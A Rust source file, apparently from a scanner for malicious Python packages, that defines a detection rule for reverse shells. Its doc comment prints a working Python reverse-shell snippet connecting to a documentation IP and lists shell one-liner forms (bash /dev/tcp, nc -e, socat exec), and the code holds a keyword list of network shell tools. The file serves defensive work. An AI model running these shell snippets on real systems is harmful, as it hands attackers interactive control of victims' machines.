use std::collections::BTreeMap;

use crate::finding::{Finding, Severity};
use crate::python::{Call, QualName, names, taint};
use crate::rules::{
    PackageFacts, Rule, RuleMeta, code_finding, declare_rule, shell_text, string_finding,
};
use crate::via::Via;

declare_rule! {
    /// A reverse shell: a socket connected out, wired to a shell.
    ///
    /// ## What it finds
    /// Within one function (or one module's top level, or one decoded
    /// payload): a socket that connects out, its descriptor duplicated onto
    /// standard input/output with `os.dup2` or handed to `pty.spawn`, and a
    /// shell started (`/bin/sh`, `bash`, `cmd.exe`, `powershell`). Also shell
    /// one-liners that do the same in a command string (`bash -i >&
    /// /dev/tcp/HOST/PORT`, `nc -e /bin/sh`, `socat exec:`, PowerShell
    /// `TCPClient` loops).
    ///
    /// Also shells wired by hand: a function whose socket connects out (or
    /// accepts a connection) and whose process runs a command line that
    /// was received on a socket (`subprocess.Popen(s.recv(1024).decode(),
    /// shell=True)`), usually sending the output back in a loop.
    ///
    /// ## Why it matters
    /// A reverse shell gives the attacker an interactive shell on the victim's
    /// machine, with the installing user's rights. There is no legitimate
    /// reason for a library to ship one.
    ///
    /// Severity: critical, except a hand-wired loop in a function a user
    /// calls, which is high (remote-administration tools are written that
    /// way too, and nothing runs it by itself).
    ///
    /// ## Example
    /// ```python
    /// import socket, os, pty
    /// s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    /// s.connect(("203.0.113.7", 4444))
    /// for fd in (0, 1, 2):
    ///     os.dup2(s.fileno(), fd)
    /// pty.spawn("/bin/sh")
    /// ```
    ///
    /// ## References
    /// MITRE ATT&CK T1059.004 (Unix Shell), T1571 (Non-Standard Port).
    pub struct ReverseShell {
        id: "AY103",
        slug: "reverse-shell",
        category: Execution,
        severity: Critical,
    }
}

impl Rule for ReverseShell {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, facts: &PackageFacts<'_>, out: &mut Vec<Finding>) {
        for file in facts.python {
            let mut scopes: BTreeMap<(Option<&str>, Option<&Via>), Vec<&Call>> = BTreeMap::new();
            for call in &file.calls {
                scopes
                    .entry((call.function.as_deref(), call.via.as_ref()))
                    .or_default()
                    .push(call);
            }
            for calls in scopes.values() {
                let connect = calls.iter().find(|c| is_connect(&c.name));
                let wire = calls
                    .iter()
                    .find(|c| matches!(c.name.as_str(), "os.dup2" | "pty.spawn"));
                let shell = calls.iter().find(|c| {
                    (c.is_process() || c.name.as_str() == "pty.spawn")
                        && shell_text(c).is_some_and(|t| names::is_shell_program(&t))
                });
                if let (Some(connect), Some(wire), Some(shell)) = (connect, wire, shell) {
                    let message = format!(
                        "reverse shell: a socket connected{} is wired to a shell with `{}`",
                        peer(connect),
                        wire.name
                    );
                    let mut f = code_finding(&Self::META, file, shell, message);
                    f.decoded = shell_text(shell);
                    out.push(f);
                    continue;
                }
                // Wired by hand: what the socket receives is the command.
                let link = calls
                    .iter()
                    .find(|c| is_connect(&c.name) || c.name.is_attribute("accept"));
                let run = calls.iter().find(|c| {
                    c.is_process()
                        && c.all_args().any(|a| {
                            a.has(taint::NETWORK)
                                && a.origin.as_ref().is_some_and(|o| o.is_in("socket"))
                        })
                });
                if let (Some(link), Some(run)) = (link, run) {
                    let message = format!(
                        "reverse shell: commands received on a socket{} are run with `{}`",
                        peer(link),
                        run.name
                    );
                    let mut f = code_finding(&Self::META, file, run, message);
                    if !run.context.is_automatic() {
                        f.severity = Severity::High;
                    }
                    out.push(f);
                }
            }
            for s in &file.strings {
                if is_shell_one_liner(&s.value) {
                    let mut f = string_finding(&Self::META, file, s, "reverse shell command line");
                    if !s.context.is_automatic() && !passed_to_process(file, s.line) {
                        f.severity = Severity::High;
                    }
                    out.push(f);
                }
            }
        }
    }
}

/// ` to HOST PORT` when the connection's peer is a constant.
fn peer(connect: &Call) -> String {
    connect
        .arg_texts()
        .next()
        .map(|t| format!(" to {t}"))
        .unwrap_or_default()
}

fn is_connect(name: &QualName) -> bool {
    name.is_attribute("connect")
        || name.is_attribute("connect_ex")
        || name.as_str() == "socket.create_connection"
}

fn passed_to_process(file: &crate::python::FileAnalysis, line: u32) -> bool {
    file.calls
        .iter()
        .any(|c| c.line == line && (c.is_process() || c.is_code_exec()))
}

/// Shell one-liners that connect a shell to a remote host.
fn is_shell_one_liner(text: &str) -> bool {
    // Every string of a package comes here: rule most out without
    // allocating.
    static PREFILTER: std::sync::LazyLock<aho_corasick::AhoCorasick> =
        std::sync::LazyLock::new(|| {
            aho_corasick::AhoCorasick::builder()
                .ascii_case_insensitive(true)
                .build([
                    "/dev/tcp/",
                    "nc ",
                    "ncat ",
                    "netcat ",
                    "mkfifo",
                    "socat ",
                    "tcpclient",
                ])
                .expect("patterns compile")
        });
    // One-liners are short; a long string is a keyword list or a document.
    if text.len() > 2048 || !PREFILTER.is_match(text) {
        return false;
    }
    let lower = text.to_ascii_lowercase();
    let has = |m: &str| lower.contains(m);
    (has("/dev/tcp/") && (has("sh -i") || has(">&") || has("0>&1") || has("exec ")))
        || ((has("nc ") || has("ncat ") || has("netcat "))
            && (has(" -e /bin/") || has(" -e cmd") || has(" -c /bin/")))
        || (has("mkfifo") && has("nc ") && (has("/bin/sh") || has("/bin/bash")))
        || (has("socat ") && (has("exec:") || has("system:")) && has("tcp"))
        || (has("tcpclient") && has("getstream") && (has("iex") || has("invoke-expression")))
}
